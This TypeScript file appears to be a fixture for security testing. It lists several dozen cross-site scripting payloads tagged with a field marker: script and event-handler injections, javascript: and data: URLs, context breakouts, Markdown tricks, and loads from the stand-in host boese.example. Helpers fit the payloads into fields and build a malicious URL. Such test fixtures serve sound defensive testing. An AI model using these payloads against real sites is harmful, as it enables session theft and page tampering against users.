/** Ways to smuggle markup into a page, a mail or a feed. `m` marks the field, so that it is known where it came from. */
export const payloads = (m: string): readonly string[] => [
  `<script>xss('${m}')</script>`,
  `<ScRiPt/x>xss('${m}')</sCrIpT >`,
  `"><script>xss('${m}')</script>`,
  `'><img src=x onerror=xss('${m}')>`,
  `"><img src=x onerror="xss('${m}')">`,
  `<img src="x" onerror="xss(&quot;${m}&quot;)">`,
  `" onmouseover="xss('${m}')" x="`,
  `' autofocus onfocus='xss(1)' ${m}='`,
  `" autofocus onfocus=xss('${m}') tabindex=0 "`,
  `<svg/onload=xss('${m}')>`,
  `<svg><script>xss('${m}')</script></svg>`,
  `<svg><animate onbegin=xss('${m}') attributeName=x dur=1s>`,
  `<math><a xlink:href="javascript:xss('${m}')">x</a></math>`,
  `<iframe src="javascript:xss('${m}')"></iframe>`,
  `<iframe srcdoc="<script>parent.xss('${m}')</script>">`,
  `<object data="javascript:xss('${m}')"></object>`,
  `<embed src="data:text/html,<script>xss('${m}')</script>">`,
  `<a href="javascript:xss('${m}')">${m}</a>`,
  `<a href="java&#x09;script:xss('${m}')">${m}</a>`,
  `<form action="javascript:xss('${m}')"><button>${m}</button></form>`,
  `<button formaction="javascript:xss('${m}')">${m}</button>`,
  `<body onload=xss('${m}')>`,
  `<base href="https://boese.example/${m}/">`,
  `<meta http-equiv="refresh" content="0;url=https://boese.example/${m}">`,
  `<link rel="stylesheet" href="https://boese.example/${m}.css">`,
  `<style>@import 'https://boese.example/${m}.css'</style>`,
  `<div style="background:url(https://boese.example/${m})">`,
  `<details open ontoggle=xss('${m}')>`,
  `<video><source onerror="xss('${m}')"></video>`,
  `</textarea><script>xss('${m}')</script>`,
  `</title><script>xss('${m}')</script>`,
  `</option></select><img src=x onerror=xss('${m}')>`,
  `--><img src=x onerror=xss('${m}')><!--`,
  `]]><script xmlns="http://www.w3.org/1999/xhtml">xss('${m}')</script>`,
  `<![CDATA[<img src=x onerror=xss('${m}')>]]>`,
  `<noscript><p title="</noscript><img src=x onerror=xss('${m}')>">`,
  `&lt;script&gt;xss('${m}')&lt;/script&gt;`,
  `&#60;img src=x onerror=xss('${m}')&#62;`,
  `<x-${m} onclick=xss('${m}')>`,
  `[${m}](javascript:xss('${m}'))`,
  `[${m}](data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==)`,
  `![${m}](x"onerror="xss('${m}'))`,
  `[${m}](https://boese.example/"onmouseover="xss('${m}'))`,
  `<https://boese.example/"onmouseover="xss('${m}')>`,
  `\`<img src=x onerror=xss('${m}')>\``,
  `**<b onclick=xss('${m}')>${m}**`,
]

/** As many as go into a field, beginning somewhere else for each, so that each comes into many kinds of places. */
export function attackOf(marker: string, longest: number, turn: number): string {
  const all = payloads(marker)
  let text = marker
  for (let i = 0; i < all.length; i++) {
    const next = ` ${all[(turn * 7 + i) % all.length]}`
    if (text.length + next.length <= longest) text += next
  }
  return text.slice(0, longest)
}

/** An address that a browser understands, with as much as it can carry. */
export const addressOf = (marker: string) => `https://boese.example/${marker}?"><img/src=x/onerror=xss('${marker}')>`
